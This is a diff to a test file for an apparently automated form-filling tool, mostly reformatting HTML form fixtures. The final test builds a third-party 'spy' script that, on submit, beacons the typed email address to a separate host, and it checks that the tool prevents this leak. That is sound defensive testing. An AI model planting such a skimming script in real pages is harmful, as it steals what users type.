@@ -92,7 +92,8 @@ def test_an_empty_entry_that_is_taken_is_told(visit: Visiting, pages: Pages) -> 
 
 
 SILENT = """<script>document.forms[0].addEventListener('submit', (e) => {
-  if (!document.forms[0].mail.value) { e.preventDefault(); document.querySelector('[name=mail]').style.border='1px solid red'; }
+  const mail = document.forms[0].mail;
+  if (!mail.value) { e.preventDefault(); mail.style.border = '1px solid red'; }
 });</script>"""
 
 
@@ -108,8 +109,10 @@ ODD_FIELDS = """
 <p><label>Guests <input type=number name=n min=4 max=8 required></label>
 <p><label>Day <input type=date name=d min=2020-01-01 required></label>
 <p><label>Date <input name=picked class=datepicker readonly placeholder=dd/mm/yyyy></label>
-<p><label>Department <select name=dep required><option value="">Please choose</option><option value=a>Sales</option></select></label>
-<fieldset><legend>How</legend><label><input type=radio name=how value=mail required>Mail</label><label><input type=radio name=how value=tel>Phone</label></fieldset>
+<p><label>Department <select name=dep required><option value="">Please choose</option><option value=a>Sales</option>
+</select></label>
+<fieldset><legend>How</legend><label><input type=radio name=how value=mail required>Mail</label>
+<label><input type=radio name=how value=tel>Phone</label></fieldset>
 <p><label>File <input type=file name=doc accept=.pdf required></label>
 <p><label>3 + 4 = <input name=quiz required></label>
 <p><label><input type=checkbox name=consent required> I agree to the privacy policy</label>
@@ -143,7 +146,8 @@ def test_an_arabic_form_is_filled_and_its_thanks_understood(visit: Visiting, pag
     assert "example.org" in body.split("f2=")[1].split("&")[0] and "555" in body.split("f3=")[1].split("&")[0]
 
 
-STEPS = """<div id=s1><p><label>Name <input name=who required></label><button type=button class=next onclick="go()">Next</button></div>
+STEPS = """<div id=s1><p><label>Name <input name=who required></label>
+<button type=button class=next onclick="go()">Next</button></div>
 <div id=s2 hidden><p><label>Email <input name=mail type=email required></label><button>Send</button></div>
 <script>function go(){ if(!document.forms[0].who.value) return; s1.hidden = true; s2.hidden = false; }</script>"""
 
@@ -167,7 +171,8 @@ def test_a_form_is_found_where_it_is(visit: Visiting, pages: Pages, where: str) 
     pages.pages["/"] = {
         "frame": f"{HEAD}<h1>x</h1><iframe src=/inner width=600 height=500></iframe>",
         "shadow": f"{HEAD}<div id=h></div><script>h.attachShadow({{mode:'open'}}).innerHTML = `{inner}`</script>",
-        "pop-up": f"{HEAD}<a href='#p' class=popup-open onclick=\"p.hidden=false\">Contact us</a><div id=p hidden>{inner}</div>",
+        "pop-up": f"{HEAD}<a href='#p' class=popup-open onclick='p.hidden = false'>Contact us</a>"
+        f"<div id=p hidden>{inner}</div>",
     }[where]
     tried = visit(pages.url + "/")
     assert (tried.where, tried.reached) == (where, "answered"), tried.why
@@ -254,7 +259,8 @@ def test_the_token_follows_no_redirect_to_another_origin(visit: Visiting, pages:
 
 def test_what_was_typed_is_kept_from_a_third_partys_script(visit: Visiting, pages: Pages) -> None:
     with Pages() as stranger:
-        spy = f"<script>document.forms[0].addEventListener('submit', (e) => navigator.sendBeacon('{stranger.url}/spy', document.forms[0].mail.value));</script>"
+        tells = f"navigator.sendBeacon('{stranger.url}/spy', document.forms[0].mail.value)"
+        spy = f"<script>document.forms[0].addEventListener('submit', () => {tells});</script>"
         pages.pages["/"] = form() + spy
         tried = visit(pages.url + "/", empty_first=False, pictures=False)
         assert code_of(tried) == "works" and stranger.posts() == []
